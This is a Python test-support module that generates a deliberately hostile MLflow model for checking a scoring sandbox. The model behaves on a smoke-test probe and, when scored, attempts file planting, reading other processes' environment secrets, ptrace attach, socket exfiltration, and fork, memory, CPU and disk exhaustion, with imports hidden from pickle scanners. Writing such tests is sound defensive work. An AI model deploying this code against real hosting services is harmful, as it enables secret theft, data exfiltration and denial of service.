"""A hostile-model corpus built by the tests themselves (no stored pickles from elsewhere).

:func:`save_hostile_pyfunc` saves ONE tiny MLflow pyfunc model whose
``predict()`` does, with imports inside the function (invisible to any static
pickle scan), what the input frame's ``case`` column asks: write outside its
output, read the data home, look at the parent, reach the network, exhaust
resources. On the smoke-test probe (``case == "honest"``) it behaves, so it
can be submitted and turn hostile only when scored. It returns what it
managed to read as predictions (an exfiltration attempt) and raises
``RuntimeError("blocked: …")`` when the operating system refused it.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

# The input's type hint is one MLflow infers no schema from: without any hint, MLflow warns "Add type hints
# to the `predict` method" under its own `simplefilter("once")`, which overrides pytest's "error" filter.
_PYFUNC = r'''
import mlflow.pyfunc
import pandas as pd


class HostileModel(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input: pd.DataFrame, params=None):
        return respond(model_input)
'''

_SOURCE = r'''
def respond(model_input):
    case = str(model_input["case"].iloc[0])
    target = str(model_input["target"].iloc[0])
    if case == "honest":
        return [int(v > 50) for v in model_input["x"]]
    found = str(attack(case, target))
    if case == "output":
        return [found[i:i + 2000] for i in range(len(model_input))]  # the longest label the host takes
    return [found[:2000]] * len(model_input)


class HostilePredictor:
    """The same behaviour as a plain pickled object (the sklearn flavour: loads without importing mlflow)."""

    def predict(self, model_input):
        return respond(model_input)


def attack(case, target):
    import ctypes, errno, os, signal, socket, time
    def blocked(what, exc):
        raise RuntimeError(f"blocked: {what}: {type(exc).__name__}: {exc}")
    if case == "write":
        for path in target.split("|"):
            try:
                with open(path, "w") as handle:
                    handle.write("import os  # planted by a hostile model\n")
            except OSError as exc:
                blocked(path, exc)
        return "written " + target
    if case == "read":
        leaked = []
        for path in target.split("|"):
            try:
                if os.path.isdir(path):
                    leaked.append(path + ":" + ",".join(os.listdir(path)))
                else:
                    with open(path, "rb") as handle:
                        leaked.append(path + ":" + handle.read(4096).decode("latin-1"))
            except OSError as exc:
                leaked.append(f"{path}: {type(exc).__name__}")
        if all(": " in item and item.split(": ")[-1].endswith("Error") for item in leaked):
            raise RuntimeError("blocked: " + " | ".join(leaked))
        return " | ".join(leaked)
    if case == "environ":
        seen = []
        for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [target]:
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    seen.append(f"{pid}={handle.read().decode('latin-1')}")
            except OSError as exc:
                seen.append(f"{pid}:{type(exc).__name__}")
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                seen += [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
            except OSError as exc:
                seen.append(f"fd {pid}:{type(exc).__name__}")
        return " ;; ".join(seen)
    if case == "sysctl":  # write a global sysctl (its current value: harmless if it ever succeeded)
        results = []
        for path in ("/proc/sys/vm/swappiness", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
            try:
                value = open(path).read() if "sysrq" not in path else ""
                if not value:
                    results.append(f"{path}: writable={os.access(path, os.W_OK)}")
                    continue
                with open(path, "w") as handle:
                    handle.write(value)
                return f"wrote {path}"
            except OSError as exc:
                results.append(f"{path}: {exc.strerror}")
        raise RuntimeError("blocked: " + "; ".join(results))
    if case == "status":  # who am I in there?
        with open("/proc/self/status") as handle:
            return handle.read()
    if case == "hold":  # block SIGUSR1, name itself, and wait for the host to look from outside
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
        ctypes.CDLL(None).prctl(15, target.encode(), 0, 0, 0)  # PR_SET_NAME
        got = signal.sigtimedwait({signal.SIGUSR1}, 120)
        return "released" if got else "nobody came"
    if case == "signal":
        try:
            os.kill(int(target), signal.SIGUSR1)
        except OSError as exc:
            blocked("kill", exc)
        return "signalled"
    if case == "ptrace":
        libc = ctypes.CDLL(None, use_errno=True)
        results = []
        for pid in (int(target), 1):
            if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
                return f"attached to {pid}"
            results.append(f"{pid}: {errno.errorcode.get(ctypes.get_errno(), '?')}")
        raise RuntimeError("blocked: ptrace " + ", ".join(results))
    if case == "tcp":
        host, port = target.split(":")
        try:
            socket.create_connection((host, int(port)), timeout=3).sendall(b"exfiltrated")
        except OSError as exc:
            blocked("tcp", exc)
        return "connected"
    if case == "unix":
        for path in target.split("|"):
            try:
                client = socket.socket(socket.AF_UNIX)
                client.connect(path)
                client.sendall(b"exfiltrated")
                return "connected " + path
            except OSError as exc:
                error = exc
        blocked("unix", error)
    if case == "dns":
        try:
            return str(socket.getaddrinfo(target, 443))
        except OSError as exc:
            blocked("dns", exc)
    if case == "fork":
        children = 0
        try:
            while children < 100000:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                children += 1
        except OSError as exc:
            blocked(f"fork after {children}", exc)
        return f"forked {children}"
    if case == "threads":
        import threading
        started = 0
        try:
            while started < 100000:
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                started += 1
        except (RuntimeError, OSError) as exc:
            blocked(f"thread after {started}", exc)
        return f"threads {started}"
    if case == "memory":
        hog = []
        while True:
            hog.append(bytearray(256 * 1024 * 1024))
    if case == "cpu":
        while True:
            pass
    if case == "disk":
        written = 0
        block = b"x" * (1 << 20)
        for folder in target.split("|"):
            try:
                with open(os.path.join(folder, "fill.bin"), "wb") as handle:
                    while written < (1 << 34):
                        handle.write(block)
                        written += len(block)
            except OSError as exc:
                error = f"{folder}: {type(exc).__name__}: {exc}"
        raise RuntimeError(f"blocked: disk fill stopped after {written >> 20} MB: {error}")
    if case == "output":
        block = b"\0" * (1 << 24)
        fds = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
        for _ in range(64):  # 1 GB into every inherited descriptor
            for fd in fds:
                try:
                    os.write(fd, block)
                except OSError:
                    pass
        return os.urandom(12 << 20).hex()  # then predictions far larger than the cap
    if case == "sleep":
        if target:  # a name the test can look for afterwards
            ctypes.CDLL(None).prctl(15, target.encode(), 0, 0, 0)  # PR_SET_NAME
        time.sleep(120)
    raise ValueError(case)
'''


def _namespace(*sources: str) -> dict:
    namespace: dict = {"__name__": "vendor_hostile_model"}  # not importable: cloudpickle pickles it by value
    for source in sources:
        exec(compile(source, "vendor_hostile_model.py", "exec"), namespace)
    return namespace


def save_hostile_pickled(model_dir: Path, target: Path) -> Path:
    """A copy of the honest sklearn-flavour model folder whose ``model.pkl`` is the hostile predictor."""
    import shutil

    import cloudpickle

    shutil.copytree(model_dir, target)
    (target / "model.pkl").write_bytes(cloudpickle.dumps(_namespace(_SOURCE)["HostilePredictor"]()))
    return target


def save_hostile_pyfunc(target: Path) -> Path:
    """Save the dispatching hostile pyfunc model at ``target`` (pickled by value: no project import)."""
    import mlflow.pyfunc

    namespace = _namespace(_SOURCE, _PYFUNC)
    example = pd.DataFrame({"case": ["honest"], "target": [""], "x": [60]})
    mlflow.pyfunc.save_model(str(target), python_model=namespace["HostileModel"](), input_example=example,
                             pip_requirements=["mlflow"])
    return target


def hostile_frame(case: str, target: object = "", rows: int = 3) -> pd.DataFrame:
    return pd.DataFrame({"case": [case] * rows, "target": [str(target)] * rows, "x": list(range(rows))})
